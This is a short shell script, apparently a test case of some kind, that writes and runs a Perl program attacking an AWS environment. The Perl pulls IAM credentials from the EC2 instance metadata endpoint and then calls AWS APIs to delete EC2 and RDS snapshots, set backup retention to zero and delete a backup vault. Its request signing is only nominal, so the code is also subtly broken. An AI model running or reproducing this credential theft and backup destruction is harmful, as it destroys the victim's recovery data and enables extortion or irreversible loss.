#!/bin/sh
. /opt/case/case.sh

cat >/tmp/s.pl <<'END'
use HTTP::Tiny; my $h = HTTP::Tiny->new;
my ($id) = $h->get("http://169.254.169.254/latest/meta-data/iam/security-credentials/web-credentials")->{content} =~ /AccessKeyId": "([^"]+)/ or die;
for my $c ("ec2:DescribeSnapshots", map({ "ec2:DeleteSnapshot&SnapshotId=snap-$_" } 1 .. 5), "rds:DeleteDBSnapshot&DBSnapshotIdentifier=nightly", "rds:ModifyDBInstance&BackupRetentionPeriod=0", "backup:DeleteBackupVault&Name=main") {
    my ($s, $a) = split /:/, $c, 2;
    $h->post("http://$s.amazonaws.com/?Action=$a", { headers => { Authorization => "AWS4-HMAC-SHA256 Credential=$id/20261130/eu-west-1/$s/aws4_request" } })->{success} or die $c;
}
END
perl /tmp/s.pl
took_place
